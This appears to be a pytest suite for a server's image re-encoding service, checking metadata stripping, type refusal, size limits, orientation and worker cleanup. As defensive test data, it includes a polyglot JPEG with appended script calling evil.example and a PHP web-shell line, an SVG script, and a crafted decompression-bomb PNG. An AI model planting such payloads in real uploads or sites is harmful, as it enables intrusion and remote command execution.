"""Pictures: what an upload brings with it is gone, what is no picture is refused, and no worker outlives its caller."""

import asyncio
import hashlib
import io
import os
import resource
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image

from server.files.messages import MESSAGES
from server.files.pictures import reencode_picture
from server.files.types import PictureLimits, ReencodedPicture
from server.kernel.errors import DomainError, InvalidInput, LimitReached, Unavailable
from tests.support.waiting import eventually

ORANGE = (255, 140, 0)
GPS_TAG, ORIENTATION_TAG, MAKER_TAG = 0x8825, 0x0112, 0x010F


def encoded(picture: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def photo(width: int = 640, height: int = 480) -> Image.Image:
    """A believable frame: noise, so that a decoder has work, with one orange corner at the top left."""
    picture = Image.effect_noise((width, height), 60).convert("RGB")
    picture.paste(ORANGE, (0, 0, width // 4, height // 4))
    return picture


def png_header(width: int, height: int) -> bytes:
    """A PNG of some hundred bytes whose header promises `width` × `height` pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(bytes(64)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + body + chunk(b"IEND", b"")


def opened(result: ReencodedPicture) -> Image.Image:
    return Image.open(io.BytesIO(result.large.data))


def is_near(pixel: object, colour: tuple[int, int, int]) -> bool:
    assert isinstance(pixel, tuple)
    return all(abs(a - b) < 24 for a, b in zip(pixel, colour, strict=True))


def worker_processes() -> set[int]:
    """Ids of the living picture workers that this test process started."""
    found = set()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            command = (entry / "cmdline").read_bytes()
            parent = int((entry / "stat").read_text().rpartition(")")[2].split()[1])
        except (FileNotFoundError, ProcessLookupError):
            continue
        if b"picture_worker.py" in command and parent == os.getpid():
            found.add(int(entry.name))
    return found


async def refusal(data: bytes, limits: PictureLimits | None = None) -> DomainError:
    with pytest.raises(DomainError) as caught:
        await reencode_picture(data, limits=limits)
    assert caught.value.code in MESSAGES
    MESSAGES[caught.value.code].format(**caught.value.data)
    return caught.value


async def test_two_hashed_jpegs_are_returned_when_a_large_photo_is_given() -> None:
    result = await reencode_picture(encoded(photo(3000, 2000), "JPEG"))
    assert (result.large.width, result.large.height) == (2048, 1365)
    assert (result.thumbnail.width, result.thumbnail.height) == (480, 320)
    for picture in (result.large, result.thumbnail):
        reopened = Image.open(io.BytesIO(picture.data))
        assert (reopened.format, reopened.size) == ("JPEG", (picture.width, picture.height))
        assert picture.sha256 == hashlib.sha256(picture.data).hexdigest()


async def test_small_photo_keeps_its_size_when_reencoded() -> None:
    result = await reencode_picture(encoded(photo(300, 200), "WEBP"))
    assert (result.large.width, result.large.height) == (300, 200)
    assert (result.thumbnail.width, result.thumbnail.height) == (300, 200)


async def test_place_and_camera_are_gone_when_the_photo_carried_them() -> None:
    exif = Image.Exif()
    exif[MAKER_TAG] = "HUAWEI-CAMERA"
    exif.get_ifd(GPS_TAG).update({1: "N", 2: (30.0, 15.0, 33.0), 3: "E", 4: (120.0, 9.0, 51.0)})
    data = encoded(photo(), "JPEG", exif=exif, comment=b"taken in the archive room")
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(GPS_TAG)
    result = await reencode_picture(data)
    for picture in (result.large, result.thumbnail):
        assert not Image.open(io.BytesIO(picture.data)).getexif()
        assert b"Exif" not in picture.data
        assert b"HUAWEI" not in picture.data
        assert b"archive room" not in picture.data


async def test_script_is_gone_when_appended_to_a_jpeg() -> None:
    script = b"<script>fetch('//evil.example')</script><?php system($_GET['c']); ?>"
    result = await reencode_picture(encoded(photo(), "JPEG") + script)
    assert b"<script" not in result.large.data + result.thumbnail.data
    assert b"<?php" not in result.large.data + result.thumbnail.data


async def test_refused_without_cost_when_a_tiny_png_promises_huge_pixels() -> None:
    bomb = png_header(30_000, 30_000)
    assert len(bomb) < 200
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    error = await refusal(bomb)
    assert isinstance(error, InvalidInput)
    assert error.code == "file.picture_too_large"
    assert error.data == {"max_megapixels": 40}
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 32 * 1024  # kB


async def test_refused_when_a_real_bomb_is_one_pixel_row_above_the_cap() -> None:
    limits = PictureLimits(max_pixels=1_000_000)
    at_cap = encoded(Image.new("RGB", (1000, 1000)), "PNG")
    above = encoded(Image.new("RGB", (1000, 1001)), "PNG")
    assert (await reencode_picture(at_cap, limits=limits)).large.width == 1000
    assert (await refusal(above, limits)).code == "file.picture_too_large"


async def test_refused_as_too_large_when_a_webp_canvas_is_above_the_cap() -> None:
    data = encoded(Image.new("RGB", (16_383, 4_000)), "WEBP", lossless=True, quality=0, method=0)
    assert (await refusal(data)).code == "file.picture_too_large"


async def test_refused_as_too_large_when_decoding_passes_the_memory_limit() -> None:
    data = encoded(Image.new("RGBA", (6000, 6000)), "PNG")
    assert (await refusal(data, PictureLimits(memory_bytes=200 * 1024 * 1024))).code == "file.picture_too_large"


async def test_refused_before_any_worker_starts_when_there_are_too_many_bytes() -> None:
    error = await refusal(bytes(3 * 1024 * 1024 + 1), PictureLimits(max_bytes=3 * 1024 * 1024))
    assert isinstance(error, LimitReached)
    assert (error.code, error.data) == ("file.too_large", {"max_mb": 3})


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
async def test_refused_as_broken_when_the_upload_stopped_half_way(kind: str) -> None:
    data = encoded(photo(), kind)
    assert (await refusal(data[: len(data) // 2])).code == "file.picture_broken"


@pytest.mark.parametrize(
    "data", [b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\x10\x00\x00\x00WEBPVP8 ", png_header(0, 9)]
)
async def test_refused_as_broken_when_only_the_signature_is_right(data: bytes) -> None:
    assert (await refusal(data)).code == "file.picture_broken"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        "投影仪的照片".encode(),
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b"%PDF-1.7\n",
        encoded(Image.new("RGB", (8, 8)), "BMP"),
        encoded(Image.new("RGB", (8, 8)), "TIFF"),
        b"RIFF\x24\x00\x00\x00WAVEfmt ",
    ],
    ids=["empty", "text", "svg", "pdf", "bmp", "tiff", "wav"],
)
async def test_refused_by_type_when_it_is_no_photograph(data: bytes) -> None:
    assert (await refusal(data)).code == "file.picture_type"


@pytest.mark.parametrize(
    ("kind", "code"),
    [("GIF", "file.picture_type"), ("PNG", "file.picture_animated"), ("WEBP", "file.picture_animated")],
)
async def test_refused_when_the_picture_moves(kind: str, code: str) -> None:
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "green", "blue")]
    data = encoded(frames[0], kind, save_all=True, append_images=frames[1:], duration=100)
    assert (await refusal(data)).code == code


async def test_first_frame_is_kept_when_a_phone_wrote_several_into_one_jpeg() -> None:
    data = encoded(photo(), "MPO", save_all=True, append_images=[Image.new("RGB", (640, 480), "blue")])
    assert is_near(opened(await reencode_picture(data)).getpixel((40, 40)), ORANGE)


@pytest.mark.parametrize(
    ("orientation", "corner"),
    [(1, "tl"), (2, "tr"), (3, "br"), (4, "bl"), (5, "tl"), (6, "tr"), (7, "br"), (8, "bl")],
)
async def test_pixels_are_turned_when_the_camera_was_held_otherwise(orientation: int, corner: str) -> None:
    """Where the orange corner must appear is read off the EXIF standard's table of row 0 and column 0."""
    exif = Image.Exif()
    exif[ORIENTATION_TAG] = orientation
    result = opened(await reencode_picture(encoded(photo(), "JPEG", exif=exif)))
    assert result.size == ((640, 480) if orientation < 5 else (480, 640))
    left, top = 20, 20
    right, bottom = result.width - 20, result.height - 20
    corners = {"tl": (left, top), "tr": (right, top), "br": (right, bottom), "bl": (left, bottom)}
    assert [name for name, at in corners.items() if is_near(result.getpixel(at), ORANGE)] == [corner]


async def test_grey_is_scaled_when_the_png_has_sixteen_bits() -> None:
    data = encoded(Image.new("I;16", (50, 50), 0x8000), "PNG")
    assert is_near(opened(await reencode_picture(data)).getpixel((25, 25)), (128, 128, 128))


async def test_colours_stay_when_the_jpeg_is_cmyk() -> None:
    data = encoded(Image.new("CMYK", (50, 50), (0, 0, 255, 0)), "JPEG", quality=95)
    assert is_near(opened(await reencode_picture(data)).getpixel((25, 25)), (255, 255, 0))


@pytest.mark.parametrize("mode", ["P", "RGBA", "LA"])
async def test_transparent_parts_are_white_when_the_png_has_them(mode: str) -> None:
    picture = Image.new("RGBA", (64, 64), (0, 0, 0, 0))
    picture.paste((0, 0, 0, 255), (32, 0, 64, 64))
    if mode == "P":
        indexed = Image.new("P", (64, 64), 0)
        indexed.putpalette([200, 0, 0, 0, 0, 0])
        indexed.paste(1, (32, 0, 64, 64))
        data = encoded(indexed, "PNG", transparency=0)
    else:
        data = encoded(picture.convert(mode), "PNG")
    result = opened(await reencode_picture(data))
    assert is_near(result.getpixel((8, 32)), (255, 255, 255))
    assert is_near(result.getpixel((56, 32)), (0, 0, 0))


async def test_worker_is_dead_when_it_was_too_slow() -> None:
    started = worker_processes()
    error = await refusal(encoded(photo(), "JPEG"), PictureLimits(wall_seconds=0.02))
    assert isinstance(error, Unavailable)
    assert error.code == "file.worker_failed"
    assert worker_processes() == started


async def test_worker_is_ended_when_it_passes_its_cpu_limit() -> None:
    data = encoded(photo(6000, 6000), "JPEG", progressive=True, quality=60)
    error = await refusal(data, PictureLimits(cpu_seconds=1, large_side=6000, wall_seconds=60))
    assert error.code == "file.worker_failed"


async def test_worker_is_not_heard_out_when_it_says_too_much() -> None:
    error = await refusal(encoded(photo(), "JPEG"), PictureLimits(max_output_bytes=1000))
    assert error.code == "file.worker_failed"
    assert worker_processes() == set()


async def test_worker_is_dead_when_its_caller_was_cancelled() -> None:
    task = asyncio.create_task(reencode_picture(encoded(photo(5000, 5000), "JPEG")))
    await eventually(worker_processes)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert worker_processes() == set()


async def test_no_worker_is_left_when_the_caller_was_cancelled_at_any_step_of_the_start() -> None:
    data = encoded(photo(), "JPEG")
    for steps in range(12):
        task = asyncio.create_task(reencode_picture(data))
        for _ in range(steps):
            await asyncio.sleep(0)
        task.cancel()
        async with asyncio.timeout(10):
            await asyncio.wait([task])
        assert task.cancelled()
        assert worker_processes() == set()


async def test_only_two_workers_live_when_many_upload_at_once() -> None:
    data = encoded(photo(1500, 1500), "JPEG")
    tasks = [asyncio.create_task(reencode_picture(data)) for _ in range(6)]
    most = 0

    def is_all_done() -> bool:
        nonlocal most
        most = max(most, len(worker_processes()))
        return all(task.done() for task in tasks)

    await eventually(is_all_done)
    assert most == 2
    assert len({task.result().large.sha256 for task in tasks}) == 1


async def test_turned_away_when_no_turn_comes_in_time() -> None:
    data = encoded(photo(4000, 4000), "JPEG")
    first = [asyncio.create_task(reencode_picture(data)) for _ in range(2)]
    await eventually(lambda: len(worker_processes()) == 2)
    error = await refusal(data, PictureLimits(queue_seconds=0.01))
    assert (error.kind, error.code) == ("unavailable", "file.worker_busy")
    assert [done.large.width for done in await asyncio.gather(*first)] == [2048, 2048]
